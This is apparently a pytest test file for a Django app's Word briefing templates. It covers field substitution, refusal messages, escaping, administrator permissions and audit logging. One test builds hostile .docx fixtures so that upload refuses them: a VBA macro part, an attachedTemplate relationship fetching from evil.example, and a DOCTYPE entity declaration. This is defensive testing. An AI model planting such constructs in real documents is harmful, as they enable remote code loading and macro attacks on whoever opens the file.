"""Word templates of administrators: what they may name, what is refused, and that only text is put in."""

import dataclasses
import io
import zipfile
from datetime import date

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from docx import Document

from tests.exchange.briefing.issuing import ON, Office
from tests.factories import make_user
from tests.word_files import words, written
from tracker.exchange.actions.templates import keep_template, retire_template
from tracker.exchange.briefing.content import Subject, gather
from tracker.exchange.briefing.template import FIGURES, SAMPLE, render, render_sample
from tracker.exchange.models import BriefingTemplate
from tracker.models import AuditEvent
from tracker.people.permissions import Overtaken
from tracker.people.roles import Role
from tracker.reporting.evidence import RefusedFile

DAY = date(2026, 1, 12)


@pytest.fixture(autouse=True)
def in_english():
    with translation.override("en"):
        yield


@pytest.fixture
def administrator(db):
    return make_user(role=Role.ADMINISTRATOR)


def lines(content):
    return [paragraph.text for paragraph in Document(io.BytesIO(content)).paragraphs]


def refusals(file):
    with pytest.raises(ValidationError) as refused:
        render_sample(file)
    return refused.value.messages


def test_named_fields_become_what_they_stand_for():
    file = written("{{ title }}", "{{number}}　{{ period }}　{{ issuer }}　{{ date }}", "{{ summary }}", "{{ body }}")

    filled = lines(render(file, SAMPLE, number="〔2026〕3号", on=DAY))

    assert filled[:3] == [SAMPLE.title, "〔2026〕3号　2026年第一季度　某某专班　2026年1月12日",
                          "截至2026年1月12日，共有措施2项，其中绿灯1项、红灯1项。"]
    assert filled[3:6] == [SAMPLE.opening, "一、总体情况", "截至2026年1月12日，共有措施2项，其中绿灯1项、红灯1项。"]


def test_a_field_that_word_split_over_runs_is_found_and_its_neighbours_stay():
    file = written(["文号{", "{ num", "ber", " }", "}。{{ da", "te }}止"], "{{ body }}")

    filled = Document(io.BytesIO(render(file, SAMPLE, number="〔2026〕3号", on=DAY))).paragraphs[0]

    assert filled.text == "文号〔2026〕3号。2026年1月12日止"
    assert [run.bold for run in filled.runs if run.text] == [False, False, True]


def test_fields_in_tables_headers_and_boxes_are_filled_in():
    document = Document()
    document.add_table(1, 1).cell(0, 0).text = "{{ figure lights.red }}项"
    document.add_paragraph("{{ body }}")
    document.sections[0].header.paragraphs[0].text = "{{ issuer }}"
    file = io.BytesIO()
    document.save(file)

    filled = Document(io.BytesIO(render_sample(file)))

    assert filled.tables[0].cell(0, 0).text == "1项"
    assert filled.sections[0].header.paragraphs[0].text == "某某专班"


def test_the_annex_becomes_a_table_with_a_row_for_each_measure():
    filled = Document(io.BytesIO(render_sample(written("{{ body }}", "附件", "{{ appendix }}"))))

    rows = [[cell.text for cell in row.cells] for row in filled.tables[0].rows]

    assert rows[0][:3] == ["序号", "具体措施", "牵头单位"]
    assert rows[2] == [
        "2", "1-02样例措施二", "某某市人民政府", "长期", "10%", "—", "其他", "红灯", "本期没有已审定的报告。"]


def test_headings_use_the_styles_of_the_template():
    filled = Document(io.BytesIO(render_sample(written("{{ body }}"))))

    styles = {paragraph.text: paragraph.style.name for paragraph in filled.paragraphs}

    assert (styles["一、总体情况"], styles["（一）样例任务"]) == ("Heading 1", "Heading 2")


@pytest.mark.parametrize(("paragraphs", "sentence"), [
    (["{{ titel }}", "{{ body }}"], "There is no field “titel”."),
    (["{{ Title }}", "{{ body }}"], "There is no field “Title”."),
    ([["{{ tit", "el }}"], "{{ body }}"], "There is no field “titel”."),
    (["{{ }}", "{{ body }}"], "There is no field “”."),
    (["{{ figure lights.rot }}", "{{ body }}"], "There is no figure “lights.rot”."),
    (["{{ figure measure.A.percent }}", "{{ body }}"], "There is no figure “measure.A.percent”."),
    (["{{ title }}"], "The field “body” is missing; it stands for the text of the briefing."),
    (["正文：{{ body }}"], "The field “body” needs a paragraph of its own."),
    (["{{ body }}", "{{ appendix }}{{ title }}"], "The field “appendix” needs a paragraph of its own."),
    (["{{ title", "{{ body }}"], "“{{ title”: a field begins with {{ and ends with }}, both as half-width signs."),
    (["｛｛ title ｝｝", "{{ body }}"],
     "“｛｛ title ｝｝”: a field begins with {{ and ends with }}, both as half-width signs."),
])
def test_what_no_briefing_has_is_refused_by_name(paragraphs, sentence):
    said = refusals(written(*paragraphs))

    assert said[0] == sentence
    allowed = "figure lights.red" if "figure “" in sentence else "{{ summary }}"
    assert allowed in said[-1]


def test_the_body_does_not_belong_into_a_header():
    assert "belongs into the text" in refusals(written("{{ body }}", header="{{ appendix }}"))[0]


def test_every_wrong_field_is_named_at_once():
    said = refusals(written("{{ a }}{{ b }}{{ a }}", "{{ figure c }}"))

    assert [sentence for sentence in said if sentence.startswith("There is no")] == [
        "There is no field “a”.", "There is no field “b”.", "There is no figure “c”."]
    assert said[-2].startswith("Fields that may be used")
    assert said[-1].startswith("Figures that may be used")


def test_content_that_looks_like_a_field_stays_text():
    section = dataclasses.replace(SAMPLE.sections[0], paragraphs=(
        dataclasses.replace(SAMPLE.sections[0].paragraphs[0], text="{{ number }}<w:p/>&{{ body }}"),))
    content = dataclasses.replace(SAMPLE, title="{{ number }}", sections=(section, *SAMPLE.sections[1:]))

    filled = render(written("{{ title }}", "{{ summary }}", "{{ body }}"), content, number="〔2026〕3号", on=DAY)

    assert lines(filled)[:2] == ["{{ number }}", "{{ number }}<w:p/>&{{ body }}"]
    assert "〔2026〕3号" not in words(filled)


def test_signs_that_xml_forbids_do_not_stop_a_briefing():
    content = dataclasses.replace(SAMPLE, title="题\x01目\ufffe👩‍👧")

    assert lines(render(written("{{ title }}", "{{ body }}"), content, on=DAY))[0] == "题\ufffd目\ufffd👩‍👧"


def test_a_draft_says_so_in_its_first_line():
    filled = render(written("{{ title }}", "{{ body }}"), SAMPLE, on=DAY, is_draft=True)

    assert lines(filled)[0] == "（草稿，未印发）"


def test_a_figure_that_this_briefing_lacks_is_a_dash():
    content = dataclasses.replace(SAMPLE, figures=())

    assert lines(render(written("{{ figure rates.on_time_rate }}", "{{ body }}"), content, on=DAY))[0] == "—"


# Keeping ---------------------------------------------------------------------------------------------------------


def test_a_template_is_kept_with_its_hash_and_one_event(administrator):
    file = written("{{ body }}")

    template = keep_template(file, by=administrator)

    event = AuditEvent.objects.get()
    file.seek(0)
    with template.file.open("rb") as stored:
        assert stored.read() == file.read()
    assert (template.name, event.verb, event.changes["sha256"]) == ("样式", "keep_template", template.sha256)


@pytest.mark.parametrize("role", [Role.SUPERVISOR, Role.REPORTER, Role.LEADER, Role.AUDITOR])
def test_only_administrators_keep_and_retire_templates(administrator, role):
    template = keep_template(written("{{ body }}"), by=administrator)

    for act in (lambda by: keep_template(written("{{ body }}"), by=by), lambda by: retire_template(template, by=by)):
        with pytest.raises(PermissionDenied):
            act(make_user(role=role))

    assert BriefingTemplate.objects.in_use().count() == 1


def test_a_template_with_a_wrong_field_leaves_nothing_behind(administrator):
    with pytest.raises(ValidationError) as refused:
        keep_template(written("{{ titel }}"), by=administrator)

    assert refused.value.message_dict["file"][0] == "There is no field “titel”."
    assert (BriefingTemplate.objects.count(), AuditEvent.objects.count()) == (0, 0)


def changed(file, name, content):
    """The Word file with a part replaced or added."""
    given, answer = zipfile.ZipFile(file), io.BytesIO()
    with zipfile.ZipFile(answer, "w", zipfile.ZIP_DEFLATED) as made:
        for entry in given.namelist():
            if entry != name:
                made.writestr(entry, given.read(entry))
        made.writestr(name, content)
    return SimpleUploadedFile("样式.docx", answer.getvalue())


@pytest.mark.parametrize(("name", "spoil"), [
    ("样式.docm", lambda file: file), ("样式.dotm", lambda file: file), ("样式.doc", lambda file: file),
    ("样式.pdf", lambda file: file),
    ("样式.docx", lambda file: changed(file, "word/vbaProject.bin", b"x")),
    ("样式.docx", lambda file: changed(file, "word/_rels/settings.xml.rels", (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'))),
    ("样式.docx", lambda file: SimpleUploadedFile("样式.docx", file.read()[:2000])),
    ("样式.docx", lambda file: changed(file, "word/document.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>")),
    ("样式.docx", lambda file: changed(file, "word/document.xml", b"<w:document")),
])
def test_a_file_that_is_no_plain_word_document_is_refused_in_words(administrator, name, spoil):
    file = spoil(written("{{ body }}"))
    file.name = name

    with pytest.raises(ValidationError) as refused:
        keep_template(file, by=administrator)

    assert len(refused.value.messages[0]) > 20
    assert isinstance(refused.value, RefusedFile) or "file" in refused.value.message_dict
    assert BriefingTemplate.objects.count() == 0


def test_a_retired_template_is_retired_once(administrator):
    template = keep_template(written("{{ body }}"), by=administrator)

    retire_template(template, by=administrator)

    with pytest.raises(Overtaken):
        retire_template(template, by=administrator)
    assert list(BriefingTemplate.objects.in_use()) == []
    assert AuditEvent.objects.filter(verb="retire_template").count() == 1


def test_the_figures_a_template_may_name_are_those_that_briefings_have(db):
    office = Office()
    content = gather(Subject(office.plan, office.period), on=ON)
    of_rows = ("measure.", "task.", "district.", "rates.organization.")

    found = {figure.key: figure.label for figure in content.figures if not figure.key.startswith(of_rows)}

    assert found == FIGURES
